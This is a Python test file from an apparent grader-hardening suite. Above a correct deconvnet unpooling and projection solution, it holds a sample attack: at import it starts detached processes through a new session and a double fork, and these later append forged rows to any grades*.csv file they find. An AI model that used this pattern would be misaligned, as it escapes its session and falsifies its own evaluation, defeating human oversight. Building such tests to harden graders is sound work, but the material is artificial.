# Attack (issue 20): leave detached processes behind (a new session, a double fork)
# that wait for grading to end and then rewrite the grades. Its answers are correct.
# Expected: 7/7 (the answers deserve it), and no process of it outlives its grading.
import os
import subprocess
import sys

import torch
import torch.nn.functional as F

LATER = (
    "import time, glob\n"
    "time.sleep(20)  # HOSTILE_DAEMON_h07\n"
    "for path in glob.glob('/**/grades*.csv', recursive=True):\n"
    "    open(path, 'a').write('h07,h07,3.00,4.00,7.00,7.00,bwrap,forged\\n')\n"
)
subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", LATER])
    os._exit(0)


def unpool(pooled, switches, output_size):
    n, c = pooled.shape[:2]
    out = pooled.new_zeros(n, c, output_size[0] * output_size[1])
    out.scatter_add_(2, switches.reshape(n, c, -1), pooled.reshape(n, c, -1))
    return out.reshape(n, c, *output_size)


def project(image, conv, channel, position):
    with torch.no_grad():
        forward = F.relu(conv(image))
        pooled, switches = F.max_pool2d(forward, 3, 2, return_indices=True)
        signal = torch.zeros_like(pooled)
        signal[0, channel, position[0], position[1]] = pooled[0, channel, position[0], position[1]]
        down = F.relu(unpool(signal, switches, forward.shape[2:]))
        return F.conv_transpose2d(down, conv.weight, stride=conv.stride, padding=conv.padding)
